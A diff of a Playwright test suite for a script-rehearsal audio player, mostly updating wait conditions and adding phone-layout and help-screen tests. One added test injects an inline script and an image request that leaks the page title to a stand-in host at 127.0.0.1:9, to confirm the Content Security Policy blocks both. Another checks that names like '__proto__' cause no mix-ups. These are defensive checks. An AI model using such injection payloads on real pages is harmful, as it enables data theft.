@@ -48,7 +48,7 @@ def open_page(browser, url: str, viewport=None, player: bool = True):
     page.goto(url)
     if not player:
         return page
-    page.wait_for_function("window.runthruPlayer !== undefined")
+    page.wait_for_function("() => window.runthruPlayer !== undefined")
     page.evaluate("""() => {
         window.__events = [];
         const a = document.getElementById('audio');
@@ -66,25 +66,45 @@ def test_bundle_plays_ai_line_stops_at_mine_and_continues_on_space(browser, ben_
     page.wait_for_url("**/play/ben/index.html")
     assert state(page)["line"] == 0 and not state(page)["mine"]
     page.click("#play")
-    page.wait_for_function("window.__events.includes('playing')", timeout=5000)
-    page.wait_for_function("window.__events.includes('ended')", timeout=10000)
-    page.wait_for_function("window.runthruPlayer.state().waiting", timeout=5000)
+    page.wait_for_function("() => window.__events.includes('playing')", timeout=5000)
+    page.wait_for_function("() => window.__events.includes('ended')", timeout=10000)
+    page.wait_for_function("() => window.runthruPlayer.state().waiting", timeout=5000)
     s = state(page)
     assert (s["line"], s["mine"], s["playing"]) == (1, True, True)
     assert page.is_visible("#cue")
     assert page.evaluate("document.getElementById('audio').paused")
     page.keyboard.press("Space")
-    page.wait_for_function("window.runthruPlayer.state().line === 2")
-    page.wait_for_function("window.__events.filter(e => e === 'playing').length >= 2", timeout=5000)
+    page.wait_for_function("() => window.runthruPlayer.state().line === 2")
+    page.wait_for_function("() => window.__events.filter(e => e === 'playing').length >= 2", timeout=5000)
     assert not page.errors and not page.dialogs
 
 
 def test_no_request_leaves_the_bundle(browser, ben_bundle):
     page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
     page.click("#play")
-    page.wait_for_function("window.__events.includes('ended')", timeout=10000)
+    page.wait_for_function("() => window.__events.includes('ended')", timeout=10000)
     root = ben_bundle.as_uri()
     assert page.requests and all(url.startswith(root) for url in page.requests), page.requests
+
+
+INJECT = """() => new Promise(done => {
+    // What a slip in escaping script text would let through: inline script, a remote image.
+    const blocked = [];
+    document.addEventListener('securitypolicyviolation', e => blocked.push(e.effectiveDirective));
+    const s = document.createElement('script');
+    s.textContent = 'window.__injected = true';
+    document.head.appendChild(s);
+    const img = new Image();
+    img.onload = img.onerror = () => setTimeout(() => done({ran: window.__injected === true, blocked}), 50);
+    img.src = 'http://127.0.0.1:9/leak.png?' + encodeURIComponent(document.title);
+})"""
+
+
+def test_the_content_security_policy_holds_in_a_bundle_opened_from_a_file(browser, ben_bundle):
+    for rel in ("play/index.html", "play/ben/index.html"):  # the start page, a rehearsal page
+        page = open_page(browser, (ben_bundle / rel).as_uri(), player=rel.endswith("ben/index.html"))
+        assert page.evaluate(INJECT) == {"ran": False, "blocked": ["script-src-elem", "img-src"]}, rel
+        page.context.close()
 
 
 def test_bundle_holds_only_the_audio_the_role_hears(site, ben_bundle):
@@ -101,7 +121,7 @@ def test_timed_mode_advances_by_itself(browser, ben_bundle):
     page.click('.line[data-i="2"]')  # BEN: Hello Amy.
     assert state(page)["mine"]
     page.click("#play")
-    page.wait_for_function("window.runthruPlayer.state().line === 2", timeout=6000)
+    page.wait_for_function("() => window.runthruPlayer.state().line === 2", timeout=6000)
     assert not page.is_visible("#cue")
 
 
@@ -127,7 +147,7 @@ def test_speed_changes_the_playback_rate(browser, ben_bundle):
     page.select_option("#speed", "1.5")
     page.keyboard.press("Escape")
     page.click("#play")
-    page.wait_for_function("window.__events.includes('playing')", timeout=5000)
+    page.wait_for_function("() => window.__events.includes('playing')", timeout=5000)
     assert page.evaluate("document.getElementById('audio').playbackRate") == 1.5
 
 
@@ -136,7 +156,7 @@ def test_resume_after_reload_lands_on_the_same_line(browser, ben_bundle):
     page.click('.line[data-i="4"]')
     assert state(page)["line"] == 3
     page.reload()
-    page.wait_for_function("window.runthruPlayer !== undefined")
+    page.wait_for_function("() => window.runthruPlayer !== undefined")
     assert state(page)["line"] == 3
     assert "current" in page.locator('.line[data-i="4"]').get_attribute("class")
 
@@ -146,7 +166,7 @@ def test_missing_clip_shows_text_and_moves_on(browser, ben_bundle):
         clip.unlink()
     page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
     page.click("#play")
-    page.wait_for_function("window.runthruPlayer.state().waiting", timeout=8000)
+    page.wait_for_function("() => window.runthruPlayer.state().waiting", timeout=8000)
     assert state(page)["line"] == 1
     assert "no-audio" in page.locator('.line[data-i="1"]').get_attribute("class")
 
@@ -156,7 +176,7 @@ def test_two_parts_at_once(browser, ben_bundle):
     assert sorted(state(page)["roles"]) == ["AMY", "BEN"]
     assert page.locator(".line.mine").count() == 6
     page.click("#play")
-    page.wait_for_function("window.runthruPlayer.state().waiting", timeout=3000)
+    page.wait_for_function("() => window.runthruPlayer.state().waiting", timeout=3000)
     assert state(page)["line"] == 0
 
 
@@ -200,15 +220,15 @@ def test_served_page_works_offline_after_saving(browser, site):
         page.click("#settings-btn")
         assert page.is_visible("#offline-btn")
         page.click("#offline-btn")
-        page.wait_for_function("document.getElementById('offline-status').textContent.includes('Available offline')",
+        page.wait_for_function("() => document.getElementById('offline-status').textContent.includes('Available offline')",
                                timeout=10000)
         context.set_offline(True)
         page.reload()
-        page.wait_for_function("window.runthruPlayer !== undefined")
+        page.wait_for_function("() => window.runthruPlayer !== undefined")
         page.evaluate("() => { window.__events = []; document.getElementById('audio')"
                       ".addEventListener('playing', () => window.__events.push('playing')); }")
         page.click("#play")
-        page.wait_for_function("window.__events.includes('playing')", timeout=5000)
+        page.wait_for_function("() => window.__events.includes('playing')", timeout=5000)
         context.close()
 
 
@@ -230,7 +250,8 @@ def test_keyboard_scene_jump_and_help(browser, ben_bundle):
     page.keyboard.press("s")  # restart the scene: its first line
     assert state(page)["line"] == 4
     page.keyboard.press("?")
-    assert page.is_visible("#help") and page.evaluate("document.activeElement.id") == "help-close"
+    assert page.is_visible("#help") and page.evaluate("document.activeElement.id") == "help-x"
+    assert page.is_visible("#help .keys")  # a desktop: the keyboard list is shown
     page.keyboard.press("Escape")
     assert page.is_hidden("#help")
 
@@ -275,7 +296,7 @@ def open_in(browser, url: str, device: dict):
     page.errors = []
     page.on("pageerror", lambda e: page.errors.append(str(e)))
     page.goto(url)
-    page.wait_for_function("window.runthruPlayer !== undefined")
+    page.wait_for_function("() => window.runthruPlayer !== undefined")
     return page
 
 
@@ -309,14 +330,14 @@ def test_phone_layout_leaves_the_script_most_of_the_screen(browser, phone_site):
     # waiting at my long line: the cue banner sits below it, never over it
     page.tap('.line[data-i="5"]')
     page.tap("#play")
-    page.wait_for_function("window.runthruPlayer.state().waiting")
+    page.wait_for_function("() => window.runthruPlayer.state().waiting")
     assert state(page)["line"] == 5
     line, banner = box(page, '.line[data-i="5"]'), box(page, "#continue")
     assert line["bottom"] <= banner["top"] and line["top"] >= head["bottom"], (line, banner)
     screenshot(page, "phone-my-long-line")
     # a tap anywhere on my current line continues, as the banner does
     page.tap('.line[data-i="5"] .cue')
-    page.wait_for_function("window.runthruPlayer.state().line === 6")
+    page.wait_for_function("() => window.runthruPlayer.state().line === 6")
     assert not page.errors
 
 
@@ -352,12 +373,25 @@ def test_start_before_my_next_line_and_the_heads_up(browser, phone_site):
     page.keyboard.press("n")
     assert state(page)["line"] == 5  # no lead: straight to my line
     page.reload()
-    page.wait_for_function("window.runthruPlayer !== undefined")
+    page.wait_for_function("() => window.runthruPlayer !== undefined")
     assert page.input_value("#lead") == "0"  # remembered
     assert not page.errors
 
 
 SHEET_CONTROLS = ("#settings-close", "#mode", "#display", "#speed", "#lead", "#gap", "#also-box summary")
+
+
+def test_help_on_a_phone_explains_the_taps_and_fits_the_screen(browser, phone_site):
+    """Found by a newcomer: '?' listed only keyboard shortcuts, no use on a phone, and its
+    Close button was cut off at the bottom."""
+    page = open_in(browser, (phone_site / "phone" / "ben" / "index.html").as_uri(), PHONE)
+    page.tap("#help-btn")
+    assert page.is_visible("#help") and "tap it" in page.inner_text("#help .how")
+    assert page.is_hidden("#help .keys")
+    sheet, close = box(page, "#help .sheet"), box(page, "#help-close")
+    assert sheet["top"] >= 0 and close["bottom"] <= 844, (sheet, close)
+    page.tap("#help-close")
+    assert page.is_hidden("#help") and not page.errors
 
 
 def test_settings_sheet_reachable_by_touch_at_any_scroll_position(browser, phone_site):
@@ -415,5 +449,25 @@ def test_back_arrow_in_an_unzipped_bundle_lands_on_a_page_that_exists(browser, s
         landed = Path(page.url.removeprefix("file://"))
         assert landed.is_file() and landed.is_relative_to(top), page.url
         page.click("text=BEN")
-        page.wait_for_function("window.runthruPlayer !== undefined")
+        page.wait_for_function("() => window.runthruPlayer !== undefined")
         assert page.url.endswith("play/ben/index.html")
+
+
+def test_characters_named_like_javascript_object_keys_are_nobodys_part_but_their_own(
+        browser, make_project, toy_engine, tmp_path):
+    """Character names come from whoever wrote the script: "constructor" or "__proto__" must not
+    count as the actor's own line on every page (the player would stop and wait there)."""
+    from runthru_build.commands.build import build
+
+    script = "Title: Keys\n\n@AMY\nFirst.\n\n@constructor\nSecond.\n\n@__proto__\nThird.\n\n@BEN\nFourth.\n"
+    root = make_project({"scripts/keys.fountain": script,
+                         "casts/keys.toml": 'script = "../scripts/keys.fountain"\nengine = "toy"\n'})
+    assert build(root).published
+    with static_server(root / "build") as base:
+        for path, mine in [("listen.html", []), ("amy/index.html", ["AMY"]),
+                           ("constructor/index.html", ["constructor"]), ("proto/index.html", ["__proto__"]),
+                           ("amy/index.html?also=constructor,tostring", ["AMY", "constructor"])]:
+            page = open_page(browser, f"{base}/keys/{path}")
+            shown = page.evaluate("[...document.querySelectorAll('.line.mine .cue')].map(e => e.textContent)")
+            assert shown == mine and page.evaluate("runthruPlayer.state().roles") == mine, path
+            page.context.close()
